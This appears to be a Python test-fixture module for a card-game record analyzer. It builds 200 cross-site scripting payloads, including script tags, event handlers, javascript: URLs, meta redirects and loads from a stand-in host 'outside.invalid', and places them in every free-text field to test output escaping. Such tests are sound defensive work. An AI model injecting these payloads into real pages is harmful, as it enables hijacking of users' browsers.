"""Two hundred texts that would run, load or lead somewhere if a page took them for markup, and
records that have one of them in every field."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from io import BytesIO
from itertools import product
from typing import Any, Final

from analyzer.notation import read
from analyzer.record import GameRecord

# What may have to be left before a text is markup.
OPENERS: Final = (
    *("", '">', "'>", "</title>", "</textarea>"),
    *("</style>", "</script>", "-->", "]]>", "</option></select>"),
)
BODIES: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//outside.invalid/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='http://outside.invalid/x.png'/>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//outside.invalid/x.swf>",
    "<meta http-equiv=refresh content='0;url=http://outside.invalid/'>",
    "<base href=http://outside.invalid/>",
    "<link rel=stylesheet href=//outside.invalid/x.css>",
    "<style>@import '//outside.invalid/x.css';body{display:none}</style>",
    "{{ ''.__class__ }}{% raw %}<b style='background:url(//outside.invalid)' onclick=alert(1)>",
)
PAYLOADS: Final = tuple(opener + body for opener, body in product(OPENERS, BODIES))
_HERE: Final = "PAYLOAD"
_RECORD: Final = b"""%pen 1.0
[Event "PAYLOAD"]
[Site "PAYLOAD"]
[Date "PAYLOAD"]
[Rules "two-handed"]
[South "PAYLOAD"]
[North "PAYLOAD N"]
[PAYLOAD "PAYLOAD"] {PAYLOAD}

deal 1 dealer N up 9H {PAYLOAD}
hand S: AS KS QS JS TS
bids S: order {PAYLOAD}
note PAYLOAD
1 S: AS 9S {PAYLOAD}
call renege N trick 1 by S {PAYLOAD}
ruling PAYLOAD
alt t1.2 {PAYLOAD}
1 S: AS TC
end
redeal PAYLOAD
misdeal PAYLOAD
"""


def record_with(payload: str) -> GameRecord:
    """A game with this text in every field that holds free text."""
    reading = next(read(BytesIO(_RECORD), "x.pen")[1])
    assert reading.record is not None
    changed: GameRecord = _put(reading.record, payload)
    return changed


def _put(value: Any, payload: str) -> Any:
    if isinstance(value, str):
        return value.replace(_HERE, payload)
    if isinstance(value, tuple) and not hasattr(value, "_fields"):
        return tuple(_put(each, payload) for each in value)
    if is_dataclass(value) and not isinstance(value, type):
        new = {field.name: _put(getattr(value, field.name), payload) for field in fields(value)}
        return replace(value, **new)
    return value
